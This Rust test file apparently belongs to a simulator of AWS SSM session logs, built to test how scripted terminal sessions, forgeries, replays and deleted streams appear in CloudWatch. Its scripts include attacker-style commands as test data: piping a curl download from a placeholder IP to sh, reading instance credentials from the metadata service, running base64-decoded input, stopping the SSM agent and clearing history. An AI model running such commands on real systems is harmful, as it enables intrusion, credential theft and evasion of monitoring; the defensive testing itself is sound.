//! What scripts make of a session's log.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, clippy::string_slice)]

use serde_json::Value;

use super::{
    World,
    meddling::Meddling,
    tests::{GROUP, PAYMENTS, after, everything_logged, lines, single, single_with, start, young_world},
};
use crate::sim::scenario::{Forgery, Scenario};

/// The lines that a script leaves in the stream.
fn streamed(script: &str) -> Vec<String> {
    let mut world = single(script);
    world.advance(after(120.0));
    lines(&world)
}

fn events(world: &World) -> Vec<Value> {
    everything_logged(world).iter().map(|(.., message)| serde_json::from_str(message).unwrap()).collect()
}

#[test]
fn raw_lines_arrive_as_the_agent_leaves_them() {
    let title = "\u{1b}]0;root@web:~\u{7}[root@web ~]# id";
    let script = r#"{ raw = "\u001b]0;root@web:~\u0007[root@web ~]# id\r\n" }, { raw = "$ lss\b \b -l\r\n\u001b[31mred\u001b[0m\tx\r\n" },
                    { raw = " 33%\r 66%\r 99%\r\n" }, { raw = "don’t → ok\r\n" }"#;
    assert_eq!(streamed(script), [title, "$ lss\u{8} \u{8} -l", "red x", " 33% 66% 99%", "don\u{fffd}t \u{fffd} ok"]);
}

#[test]
fn bytes_need_not_be_text() {
    assert_eq!(streamed("{ bytes = [255, 254, 10, 104, 105, 13, 10] }"), ["\u{fffd}\u{fffd}", "hi"]);
}

#[test]
fn keys_show_one_thing_and_run_another() {
    let script = r#"{ keys = { echo = "cat /etc/hostname\r\u001b[8C\u001b[Kid", runs = "id" } },
                    { keys = { echo = "tp\bm\bp\b" } }, { edit = { by = "prepend", from = "whoami", to = "sudo whoami" } }"#;
    let all = streamed(script);
    assert_eq!(all[0], "sh-5.2$ cat /etc/hostnameid");
    assert!(all[1].starts_with("uid=1001(ssm-user)"), "{all:?}");
    assert_eq!(all[2], "sh-5.2$ tp\u{8}m\u{8}p\u{8}");
    assert_eq!(all[3..], [format!("sh-5.2$ whoami{}sudo ", "\u{8}".repeat(6)), "ssm-user".into()]);
}

#[test]
fn a_resize_doubles_the_prompt() {
    assert_eq!(streamed("\"resize\", { type = \"pwd\" }")[0], "sh-5.2$ sh-5.2$ pwd");
}

#[test]
fn a_terminal_without_echo_shows_prompts_only() {
    let all = streamed(
        "{ type = \"stty -echo\" }, { type = \"whoami\" }, { type = \"curl -s http://203.0.113.9/x | sh\" }, \
         { type = \"stty echo\" }, { type = \"pwd\" }",
    );
    let expected = ["stty -echo", "", "ssm-user", "", "fetching stage two", "done", "", "pwd", "/usr/bin"];
    let expected = expected.map(|line| match line {
        "" | "stty -echo" | "pwd" => format!("sh-5.2$ {line}"),
        output => output.to_owned(),
    });
    assert_eq!(all, expected);
}

#[test]
fn a_long_line_is_cut_into_fragments_over_events() {
    let mut world = single("{ type = \"cat key\" }, { long_line = 100000 }, { type = \"pwd\" }");
    world.advance(after(60.0));
    let events = events(&world);
    let longest: Vec<usize> = events
        .iter()
        .map(|event| event["sessionData"].as_array().unwrap().last().unwrap().as_str().unwrap().len())
        .collect();
    assert!(longest.iter().filter(|length| **length == 33_000).count() >= 2, "{longest:?}");
    let whole: String = lines(&world).concat();
    assert_eq!(whole.len(), "sh-5.2$ cat key".len() + 100_000 + "sh-5.2$ pwd/usr/bin".len());
}

#[test]
fn yes_fills_four_events_a_second() {
    let mut world = single("{ type = \"yes\" }, { flood = { rate = 200000, seconds = 5.0, line = \"y\" } }");
    world.advance(after(60.0));
    let events = events(&world);
    let full = events.iter().filter(|event| event["sessionData"].as_array().unwrap().len() == 11_000).count();
    assert!(full >= 28, "{full} of {}: 3 bytes a line at 132 kB a second", events.len());
}

#[test]
fn a_forgery_claims_what_it_is_told_to_in_the_stream_of_the_session() {
    let mut world = single(
        r#"{ type = "id" }, { wait = 3.0 }, { forge = { lines = ["$ rm -rf /srv"], owner = "arn:aws:iam::{account}:user/victim", session_id = "victim-0123456789abcdef0" } }, { event = "{\"not\": \"the agent's\"}" }"#,
    );
    world.advance(after(60.0));
    let all = everything_logged(&world);
    let id = &world.sessions[0].id;
    assert!(all.iter().all(|(stream, ..)| stream.ends_with(id.as_str())));
    let forged: Value = serde_json::from_str(&all[all.len() - 2].2).unwrap();
    assert_eq!(forged["sessionId"], "victim-0123456789abcdef0");
    assert_eq!(forged["userIdentity"]["arn"], format!("arn:aws:iam::{PAYMENTS}:user/victim"));
    assert_eq!(forged["target"]["id"], world.sessions[0].target);
    assert_eq!(forged["sessionData"], serde_json::json!(["$ rm -rf /srv"]));
    assert_eq!(all.last().unwrap().2, "{\"not\": \"the agent's\"}");
}

#[test]
fn a_forgery_takes_the_identity_of_another_nodes_session() {
    let quiet = include_str!("../scenarios/quiet.toml");
    let mut world = World::new(&Scenario::parse("test", quiet).unwrap(), 1, 1.0, start());
    let of = |world: &World, name: &str| {
        world.sessions.iter().find(|session| session.owner.contains(name)).map(|session| session.id.clone()).unwrap()
    };
    let (alice, bob) = (of(&world, "alice"), of(&world, "bob"));
    let forgery = Forgery { lines: vec!["x".into()], node: Some("payments-web-2".into()), ..Forgery::default() };
    assert!(world.meddle_with(&alice, &Meddling::Forge(forgery)));
    let stream = &world.region(PAYMENTS, "eu-central-1").unwrap().log_groups[GROUP].streams[&alice];
    let forged: Value = serde_json::from_str(&stream.events.last().unwrap().message).unwrap();
    assert_eq!(forged["sessionId"], bob);
    assert!(!world.meddle_with("nobody-0123456789abcdef0", &Meddling::DeleteStream));
    let wrong = format!("{quiet}\nscript = [{{ forge = {{ node = \"nowhere\" }} }}]\n")
        .replace("script = [{ type = \"df -h\" }, { wait = 20.0 }, \"exit\"]", "");
    assert_eq!(
        Scenario::parse("test", &wrong).unwrap_err().to_string(),
        "test: a forgery: no node is called \"nowhere\""
    );
}

#[test]
fn a_replay_sends_the_same_lines_again_with_a_new_time() {
    let mut world = single(
        "{ type = \"echo one\" }, { wait = 3.0 }, { type = \"echo two\" }, { wait = 3.0 }, { replay = 3 }, { wait = 5.0 }, { type = \"pwd\" }",
    );
    world.advance(after(60.0));
    let all = lines(&world);
    let expected = [
        "sh-5.2$ echo one",
        "one",
        "sh-5.2$ echo two",
        "two",
        "one",
        "sh-5.2$ echo two",
        "two",
        "sh-5.2$ pwd",
        "/usr/bin",
    ];
    assert_eq!(all, expected);
    let events = events(&world);
    let told = events.iter().filter(|event| event["sessionData"].as_array().unwrap().contains(&"two".into()));
    let times: Vec<_> = told.map(|event| event["eventTime"].as_str().unwrap().to_owned()).collect();
    assert!(times.len() == 2 && times[0] < times[1], "{times:?}");
}

#[test]
fn a_deleted_stream_ends_the_log_and_the_archive_has_it_all_later() {
    let mut world = single_with(
        "{ type = \"echo before\" }, { wait = 5.0 }, \"delete_stream\", { wait = 2.0 }, { type = \"echo after\" }, { wait = 5.0 }, \"exit\"",
        "archive = { late = 300.0 }",
    );
    world.advance(after(8.0));
    assert!(!everything_logged(&world).is_empty());
    world.advance(after(100.0));
    assert!(everything_logged(&world).is_empty(), "the agent does not make the stream anew");
    let objects = |world: &World| world.buckets.values().next().unwrap().objects.clone();
    assert!(objects(&world).is_empty());
    world.advance(after(400.0));
    let objects = objects(&world);
    let text = String::from_utf8(objects.values().next().unwrap().body.to_vec()).unwrap();
    assert!(text.starts_with("Script started on 2026-11-20 "), "{text}");
    assert!(text.contains("echo before\r\r\n") && text.contains("echo after\r\r\n"), "{text}");
    assert!(text.contains("\nScript done on 2026-11-20 "), "{text}");
}

#[test]
fn without_streaming_the_text_comes_after_the_end_with_carriage_returns() {
    let quiet = include_str!("../scenarios/quiet.toml");
    let head = quiet.split("[[cast]]").next().unwrap();
    let head = head.replace("\"cloudWatchStreamingEnabled\": true", "\"cloudWatchStreamingEnabled\": false");
    let text = format!(
        "{head}\n[[cast]]\nowner = \"arn:aws:iam::{{account}}:user/eve\"\nnode = \"payments-web-1\"\nat = 1.0\n\
         script = [{{ type = \"echo one\" }}, {{ wait = 5.0 }}, \"exit\"]\n"
    );
    let mut world = World::new(&Scenario::parse("test", &text).unwrap(), 1, 1.0, start());
    world.advance(after(8.0));
    assert!(everything_logged(&world).is_empty());
    world.advance(after(60.0));
    let all = everything_logged(&world);
    assert_eq!(all.len(), 1);
    let message = &all[0].2;
    assert!(message.starts_with("Script started on 2026-11-20 "), "{message}");
    assert!(
        message.contains("echo one\r\n\u{1b}[?2004l\r\r\none\r\n") || message.contains("echo one\r\n"),
        "{message:?}"
    );
    assert!(message.contains("\nScript done on 2026-11-20 "), "{message}");
}

#[test]
fn full_screen_programs_leave_what_the_agent_was_seen_to_stream() {
    let all = streamed(
        "{ type = \"vi notes.txt\" }, { screen = { program = \"vi\", seconds = 5.0 } }, { type = \"top\" }, { screen = { program = \"top\", seconds = 6.0 } }, \"exit\"",
    );
    assert_eq!(all[0], "sh-5.2$ vi notes.txt");
    assert!(all[1].starts_with("\u{1b}[?2004l\u{1b}[?1049h\u{1b}[22;0;0t"), "{:?}", all[1]);
    let typed =
        all.iter().position(|line| line.contains(":wq\"app.conf\" 18L, 411B written")).expect("typed text shows");
    // The end of the program and the next prompt are one line, and it is not stripped.
    let end = &all[typed + 1];
    assert!(end.contains("\u{1b}[?1049l") && end.ends_with("sh-5.2$ top"), "{end:?}");
    assert!(
        all[typed + 2].starts_with("\u{1b}[?2004l\u{1b}[?1h\u{1b}=\u{1b}[?25l\u{1b}[H\u{1b}[2J"),
        "{:?}",
        all[typed + 2]
    );
    assert!(all[typed + 2].contains("load average") && all[typed + 2].contains("\u{1b}(B\u{1b}[m"));
}

#[test]
fn risky_commands_answer_as_their_programs_do() {
    let all = streamed(
        r#"{ type = "curl -O https://example.com/tool.tgz" }, { type = "sudo -l" },
           { type = "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ssm-managed-node" },
           { type = "echo aWQ= | base64 -d | sh" }, { type = "history -c" }, { type = "nohup ./x &" },
           { type = "sudo systemctl stop amazon-ssm-agent" }, { type = "mysql -pExample1 -e status" }, { type = "pwd" }"#,
    );
    let text = all.join("\n");
    assert!(text.contains("0 43 10.0M   43 4400k"), "the meter is run together: {text}");
    assert!(text.contains("(ALL) NOPASSWD: ALL"));
    assert!(text.contains("\"SecretAccessKey\" : \"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\""));
    assert!(all.iter().any(|line| line == "}sh-5.2$ echo aWQ= | base64 -d | sh"), "{text}");
    assert!(!text.contains("command not found"), "{text}");
    assert_eq!(all.last().unwrap(), "/usr/bin");
}

#[test]
fn a_test_can_print_on_a_terminal_while_it_runs() {
    let mut world = single("{ type = \"id\" }");
    world.advance(after(20.0));
    let id = world.sessions[0].id.clone();
    assert!(world.print(&id, b"\r\nsh-5.2$ history -c\r\n"));
    assert!(world.meddle_with(&id, &Meddling::Event("to the letter".into())));
    assert!(!world.print("nobody", b"x"));
    world.advance(after(25.0));
    let all = everything_logged(&world);
    assert_eq!(all.iter().filter(|(.., message)| message == "to the letter").count(), 1);
    assert!(all.last().unwrap().2.contains(r#""sessionData":["sh-5.2$ ","sh-5.2$ history -c"]"#), "{all:?}");
}

/// Lines in the stream of the cast's session of that owner on that node; none: there is no such stream.
fn of_cast(world: &World, owner: &str, node: &str) -> Option<Vec<String>> {
    let session = world.sessions.iter().find(|session| {
        let place = world.node(&session.account, &session.region, &session.target).unwrap();
        session.seat.is_none() && session.owner.contains(owner) && place.name == node && session.started > start()
    });
    let session = session.unwrap_or_else(|| panic!("no session of {owner} on {node}"));
    let group = &world.region(&session.account, &session.region).unwrap().log_groups[GROUP];
    let mut lines = Vec::new();
    for event in &group.streams.get(&session.id)?.events {
        let event: Value = serde_json::from_str(&event.message).unwrap();
        lines.extend(event["sessionData"].as_array().unwrap().iter().map(|line| line.as_str().unwrap().to_owned()));
    }
    Some(lines)
}

#[test]
fn the_demo_shows_one_of_each_within_five_minutes() {
    let mut world = young_world(1);
    world.advance(after(300.0));
    let has = |owner: &str, node: &str, wanted: &[&str]| {
        let lines = of_cast(&world, owner, node).unwrap_or_else(|| panic!("{owner} on {node} has no stream"));
        for wanted in wanted {
            assert!(lines.iter().any(|line| line.contains(wanted)), "{owner} lacks {wanted:?}: {lines:#?}");
        }
        lines
    };
    // Typed and critical; a burst of looking around, credentials of the instance, encoded commands.
    has("svc-maintenance", "retail-search-1", &["sh-5.2$ sudo systemctl stop amazon-ssm-agent", "bash /dev/shm/.x"]);
    let burst = ["$ id", "$ whoami", "$ uname -a", "$ cat /etc/passwd", "$ ss -tlnp", "$ sudo -l", "$ ps aux"];
    let recon = has("v.adler", "retail-web-3", &burst);
    assert!(recon.iter().any(|line| line.contains("iam/security-credentials/ssm-managed-node")));
    assert!(recon.iter().any(|line| line.contains("base64 -d | sh")), "{recon:#?}");
    // Printed, and typed by nobody.
    let read =
        has("henrik.voss", "siem-forwarder-1", &["    sudo systemctl stop amazon-ssm-agent", "don\u{fffd}t run"]);
    assert!(!read.iter().any(|line| line.contains("$ sudo")));
    // Not to be read off with certainty.
    has(
        "l.moreau",
        "warehouse-db-replica-1",
        &["$ cat /etc/hostnameid -u", "\u{8}sudo ", "$ history -cls", "sh-5.2$ sh-5.2$ df -h", "(reverse-i-search)`"],
    );
    has("b.dubois", "store-0417-pos-gateway", &["\u{1b}[?1049h", ":wq\"app.conf\"", "\u{1b}(B\u{1b}[m"]);
    assert!(has("priya.nair", "spark-batch-2", &[]).len() > 20_000, "a flood");
    // Lies and repetitions.
    let forged =
        has("svc-legacy-deploy", "retail-web-4", &["\u{1b}]0;root@retail-web-4:~\u{7}[root@retail-web-4 ~]# "]);
    assert!(forged.contains(&"$ sudo rm -rf /srv/pos/journal".to_owned()), "{forged:#?}");
    let replayed = has("d.kowalski", "directory-sync-1", &["[sync] page 14 of 40"]);
    let pages = replayed.iter().filter(|line| line.contains("[sync] page ")).count();
    assert_eq!(pages, 14 + 5, "{replayed:#?}");
    has("m.ferrari", "reports-win-2", &["\u{feff}****", "PS C:\\Windows\\system32> powershell -NoProfile"]);
    let secrets =
        has("sam.reyes", "payments-canary-api-3", &["-pExample-Passw0rd", "wJalrXUtnFEMI", "0 43 10.0M   43 4400k"]);
    assert!(secrets.iter().any(|line| line.len() == 33_000) && !secrets.iter().any(|line| line.contains("read token")));
    // A stream that is gone; the archive has what it had, and more.
    assert_eq!(of_cast(&world, "temp-contractor", "payments-staging-web-3"), None);
    let objects = &world.buckets.values().next().unwrap().objects;
    let (_, object) = objects.iter().find(|(key, _)| key.contains("temp-contractor")).expect("archived by now");
    let text = String::from_utf8_lossy(&object.body);
    assert!(text.contains("delete-log-stream") && text.contains("$ history -c\r"), "{text}");
}
